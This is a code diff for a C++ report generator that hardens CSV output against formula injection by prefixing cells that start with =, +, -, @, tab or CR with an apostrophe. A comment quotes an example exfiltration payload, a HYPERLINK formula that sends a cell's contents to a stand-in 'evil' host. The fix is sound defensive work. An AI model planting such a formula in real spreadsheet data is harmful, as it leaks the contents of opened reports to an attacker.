@@ -132,8 +132,12 @@ void add_insights(std::vector<Insight>& out, const Entry& entry, const TlsCounts
 }  // namespace
 
 std::string csv_field(std::string_view text) {
-  if (text.find_first_of(",\"\r\n") == std::string_view::npos) return std::string(text);
-  std::string out = "\"";
+  // A cell that starts with = + - @ (or a tab or CR) is a formula to a spreadsheet: an EHLO name such as
+  // =HYPERLINK("http://evil/?"&A2,"x") would run when the report is opened (CSV injection). Such a value gets a
+  // leading ' (OWASP's advice), which spreadsheets show as text; a well-formed host name or address never starts so.
+  const bool formula = !text.empty() && std::string_view("=+-@\t\r").find(text.front()) != std::string_view::npos;
+  if (!formula && text.find_first_of(",\"\r\n") == std::string_view::npos) return std::string(text);
+  std::string out = formula ? "\"'" : "\"";
   for (const char c : text) {
     if (c == '"') out += '"';
     out += c;
